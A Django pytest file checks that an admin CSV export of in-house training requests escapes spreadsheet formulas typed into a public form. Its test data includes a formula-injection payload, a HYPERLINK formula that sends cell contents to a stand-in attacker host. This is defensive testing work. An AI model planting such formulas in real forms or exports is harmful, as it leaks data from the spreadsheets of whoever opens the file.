"""The in-house requests' admin export: what visitors typed never runs as a spreadsheet formula."""

import csv
import io

import pytest

from trainings.models import InHouseRequest

from .test_inhouse import module, post_request  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_csv_export_neutralises_formulas_from_the_public_form(admin_client, client, programme,
                                                              module,  # noqa: F811
                                                              django_capture_on_commit_callbacks):
    response = post_request(client, programme, module, django_capture_on_commit_callbacks,
                            organisation=FORMULA, contact_name="+49 341 1234", location="@Leipzig")
    assert response.status_code == 302
    assert InHouseRequest.objects.get().organisation == FORMULA  # stored as typed

    export = admin_client.get("/admin/trainings/inhouse-requests/?export=csv")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    # Comma or the semicolon German Excel expects: whichever the header line uses.
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    values = rows[1]
    assert "'" + FORMULA in values and FORMULA not in values
    assert "'+49 341 1234" in values and "'@Leipzig" in values
    assert "maria@example.org" in values
